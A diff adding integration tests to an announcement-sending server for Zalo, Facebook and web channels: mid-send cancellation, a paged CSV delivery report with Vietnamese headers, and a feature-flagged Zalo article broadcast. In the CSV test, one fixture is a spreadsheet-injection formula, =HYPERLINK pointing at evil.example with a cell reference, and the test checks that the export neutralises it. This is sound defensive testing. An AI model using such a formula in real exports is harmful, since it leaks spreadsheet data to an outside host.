@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { parse } from 'csv-parse/sync';
 import nock from 'nock';
 import { chat } from '../support/server';
 import { vi } from '../support/locale';
@@ -198,6 +199,95 @@ describe('announcements on every channel (real server, nock at Zalo and Facebook
       assert.deepEqual(rows.filter((r) => r.userId === user.userId).map((r) => r.outcome), ['sent']);
     });
 
+    it('cancelled mid-send: the worker stops after the chunk under way, and every unsent recipient is counted "cancelled"', async () => {
+      const now = Date.now();
+      const commune = `cancel-${now}`;
+      const RECIPIENTS = 120;
+      for (let i = 0; i < RECIPIENTS; i++) {
+        const user = { channel: 'zalo', userId: `cx${now}-${String(i).padStart(3, '0')}` };
+        await store().contacts.recordInteraction(user, new Date(now));
+        await store().contacts.subscribe(user, { topics: [], communes: [commune] }, new Date(now));
+      }
+      // Zalo holds the fifth message until staff have cancelled: the send is caught in the middle.
+      let calls = 0;
+      let release!: () => void;
+      const cancelled = new Promise<void>((resolve) => (release = resolve));
+      let held!: () => void;
+      const holding = new Promise<void>((resolve) => (held = resolve));
+      nock(API_BASE)
+        .persist()
+        .post('/v3.0/oa/message/cs')
+        .reply(async () => {
+          calls += 1;
+          if (calls === 5) {
+            held();
+            await cancelled;
+          }
+          return [200, sentAnswer()];
+        });
+      const { body } = await api('POST', '/api/admin/announcements', { title: `Hủy giữa chừng ${now}`, body: 'Nội dung', channels: ['zalo'], topics: [], communes: [commune] });
+      const id = body.announcement.id as string;
+      assert.equal((await api('POST', `/api/admin/announcements/${id}/send`)).status, 202);
+      await holding;
+      const cancel = await api('POST', `/api/admin/announcements/${id}/cancel`);
+      assert.equal(cancel.body.announcement.status, 'cancelled');
+      release();
+      await server.running.assistant.announcements.runner.idle();
+
+      const { report, announcement } = (await api('GET', `/api/admin/announcements/${id}`)).body;
+      assert.equal(announcement.status, 'cancelled');
+      assert.equal(report.total, RECIPIENTS);
+      assert.equal(report.pending + report.attempting, 0, 'nobody left pending');
+      assert.equal(report.sent, calls, 'every message Zalo got is counted sent');
+      assert.equal(report.skipped.cancelled, RECIPIENTS - calls, JSON.stringify(report));
+      assert.ok(calls <= 16, `stopped within the chunk under way (ANNOUNCEMENT_CONCURRENCY 16): ${calls} sent`);
+      const audit = await store().audit.list({ limit: 20 });
+      assert.ok(audit.some((e) => e.action === 'announcement.cancel' && e.target === `announcement:${id}`));
+    });
+
+    it('downloads the delivery report as CSV with Vietnamese headers and words, paged, and no cell a spreadsheet would run', async () => {
+      const now = Date.now();
+      const commune = `csv-${now}`;
+      const seed = async (channel: string, id: string) => {
+        const user = { channel, userId: id };
+        await store().contacts.recordInteraction(user, new Date(now));
+        await store().contacts.subscribe(user, { topics: [], communes: [commune] }, new Date(now));
+      };
+      // A web visitor chooses their own id: this one is a spreadsheet formula.
+      const formula = `=HYPERLINK("http://evil.example/?"&A1;"x")${now}`;
+      await seed('rest', formula);
+      await seed('zalo', `csv${now}-refused`);
+      // More rows than one page of the download (1000).
+      for (let i = 0; i < 1005; i++) await seed('zalo', `csv${now}-${String(i).padStart(4, '0')}`);
+      zaloInbox([`csv${now}-refused`]);
+      const { body } = await api('POST', '/api/admin/announcements', { title: `CSV ${now}`, body: 'Nội dung', channels: [], topics: [], communes: [commune] });
+      const id = body.announcement.id as string;
+      await api('POST', `/api/admin/announcements/${id}/send`);
+      await finished(id);
+
+      const csv = await api('GET', `/api/admin/announcements/${id}/deliveries.csv`);
+      assert.equal(csv.status, 200);
+      assert.match(csv.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
+      assert.match(csv.headers.get('content-disposition') ?? '', /attachment; filename="ket-qua-gui-thong-bao-[\w-]+\.csv"/);
+      const rows = parse(csv.body as string, { bom: true }) as string[][];
+      assert.deepEqual(rows[0], ['channel', 'recipient', 'outcome', 'reason', 'updatedAt'].map((c) => vi(`console:deliveries.columns.${c}`)));
+      assert.equal(rows.length, 1 + 1007, 'every recipient once, across pages');
+      assert.equal(new Set(rows.slice(1).map((r) => r[1])).size, 1007);
+      const byId = new Map(rows.slice(1).map((r) => [r[1], r]));
+      assert.deepEqual(byId.get(`'${formula}`)?.slice(0, 4), [vi('console:channels.rest'), `'${formula}`, vi('console:deliveries.outcomes.skipped'), vi('console:deliveries.reasons.next_visit')], 'the formula is neutralised');
+      assert.deepEqual(byId.get(`csv${now}-refused`)?.slice(0, 4), [
+        vi('console:channels.zalo'),
+        `csv${now}-refused`,
+        vi('console:deliveries.outcomes.failed'),
+        vi('console:deliveries.platformCode', { reason: vi('console:deliveries.reasons.rejected'), code: '-201' }),
+      ]);
+      assert.deepEqual(byId.get(`csv${now}-0000`)?.slice(2, 4), [vi('console:deliveries.outcomes.sent'), '']);
+      assert.match(byId.get(`csv${now}-0000`)![4]!, /^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}:\d{2}$/);
+      for (const cells of rows) for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@]/, cell);
+      assert.equal((await api('GET', '/api/admin/announcements/no-such-id/deliveries.csv')).status, 404);
+      assert.equal((await server.call('GET', `/api/admin/announcements/${id}/deliveries.csv`)).status, 401);
+    });
+
     it('starts a scheduled announcement at its time, and refuses a time already past', async () => {
       zaloInbox();
       fakeGraph();
@@ -210,6 +300,16 @@ describe('announcements on every channel (real server, nock at Zalo and Facebook
       const scheduled = await api('POST', `/api/admin/announcements/${id}/schedule`, { at: new Date(Date.now() + 300).toISOString() });
       assert.equal(scheduled.body.announcement.status, 'scheduled');
       await finished(id);
+    });
+
+    it('does not offer the Zalo article broadcast unless ZALO_ARTICLE_BROADCAST is on, and never calls Zalo for it', async () => {
+      assert.equal((await api('GET', '/api/admin/announcements/options')).body.zaloArticle, false);
+      const { body } = await api('POST', '/api/admin/announcements', { title: 'Bài viết', body: 'Nội dung', channels: ['zalo'], topics: [], communes: [] });
+      const scope = nock(API_BASE).post('/v2.0/oa/message').reply(200, { error: 0, data: { message_id: 'never' } });
+      const answer = await api('POST', `/api/admin/announcements/${body.announcement.id}/zalo-article`, { articleId: 'a1b2c3' });
+      assert.equal(answer.status, 409);
+      assert.equal(answer.body.error.details.reason, 'off');
+      assert.equal(scope.isDone(), false);
     });
 
     it('cancels a draft once, then answers 409 and 404 as it should', async () => {
